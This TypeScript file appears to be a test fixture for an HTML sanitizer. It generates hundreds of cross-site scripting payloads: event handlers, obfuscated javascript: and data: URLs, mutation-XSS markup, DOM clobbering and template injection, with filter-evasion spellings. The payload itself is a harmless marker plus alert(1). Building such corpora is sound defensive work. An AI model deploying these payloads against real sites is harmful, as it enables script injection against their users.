/**
 * Markup that runs `RUN` in a browser that shows it as it is, some hundreds of ways: from the lists
 * of OWASP and PortSwigger, put together of what can be put together.
 */
export const RUN = 'window.hacked=1;alert(1)';

const HANDLERS = [
  ...['onload', 'onerror', 'onclick', 'onfocus', 'onmouseover', 'ontoggle', 'onbegin', 'onstart'],
  ...['onanimationstart', 'ontransitionend', 'onpointerenter', 'onwheel', 'onscroll', 'onshow'],
  ...[
    'onloadstart',
    'oncanplay',
    'oncuechange',
    'onbeforetoggle',
    'oncontentvisibilityautostatechange',
  ],
];
const ELEMENTS = [
  ...[
    '<img src=x: %>',
    '<svg %></svg>',
    '<body %>',
    '<input autofocus %>',
    '<details open %>x</details>',
  ],
  ...['<p tabindex=1 autofocus %>x</p>', '<video src=x: %></video>', '<marquee %>x</marquee>'],
  ...['<a href=/ %>x</a>', '<table %><td>x</table>', '<x-y contenteditable %>x</x-y>'],
];
/** How a handler can be written so that a simple filter does not see it. */
const SPELLINGS: readonly ((handler: string) => string)[] = [
  (handler) => `${handler}="${RUN}"`,
  (handler) => `${handler.toUpperCase()}='${RUN}'`,
  (handler) => `x="/"/${handler}="${RUN}"`,
];

const SCHEMES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java&#9;script:${RUN}`,
  `java&NewLine;script:${RUN}`,
  `&#106;avascript&colon;${RUN}`,
  `&#x6A&#x61vascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript://%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  `vbscript:${RUN}`,
  `view-source:javascript:${RUN}`,
  '//evil.example',
];
const CARRIERS = [
  ...['<a href="%">x</a>', '<a xlink:href="%">x</a>', '<img src="%">', '<iframe src="%"></iframe>'],
  ...['<form action="%"><button>x</button></form>', '<button formaction="%">x</button>'],
  ...['<svg><a href="%"><text>x</text></a></svg>', '<math href="%">x</math>', '<embed src="%">'],
  ...[
    '<object data="%"></object>',
    '<area href="%">',
    '<base href="%">',
    '<link rel=import href="%">',
  ],
];

const WHOLE = [
  `<script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script src=data:,${RUN}></script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:,${RUN}"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x: onerror="${RUN}">`,
  `<math><mtext></p><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=x: onerror=${RUN}>">`,
  `<noscript><p title="</noscript><img src=x: onerror=${RUN}>">`,
  `<template><img src=x: onerror="${RUN}"></template>`,
  `<textarea><img title="</textarea><img src=x: onerror=${RUN}>">`,
  `<title><img title="</title><img src=x: onerror=${RUN}>">`,
  `<xmp><img title="</xmp><img src=x: onerror=${RUN}>">`,
  `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x: onerror=parent.hacked=1&gt;"></iframe>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<style>@import 'javascript:${RUN}';*{background:url(javascript:${RUN})}</style>`,
  `<p style="background:url(javascript:${RUN});position:fixed;inset:0">x</p>`,
  `<!--><img src=x: onerror="${RUN}">-->`,
  `<![CDATA[<img src=x: onerror="${RUN}">]]>`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `<form><input name=attributes><input name=parentNode></form><img name=body>`,
  `<svg><animate attributeName=href values="javascript:${RUN}" /><a id=x><text>x</text></a></svg>`,
  `<svg><set attributeName=onmouseover to="${RUN}"/></svg>`,
  `<svg><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload='${RUN}'/>#x"/></svg>`,
  `"><img src=x: onerror="${RUN}">`,
  `'--></style></script><script>${RUN}</script>`,
  `{{constructor.constructor('${RUN}')()}}`,
  '<a id=main name=main href=# class=sr-only>x</a>',
];

export const HOSTILE_MARKUP: readonly string[] = [
  ...WHOLE,
  ...SCHEMES.flatMap((scheme) => CARRIERS.map((carrier) => carrier.replace('%', () => scheme))),
  ...HANDLERS.flatMap((handler) =>
    ELEMENTS.map((element, index) =>
      element.replace('%', () =>
        (SPELLINGS[index % SPELLINGS.length] as (typeof SPELLINGS)[number])(handler),
      ),
    ),
  ),
];
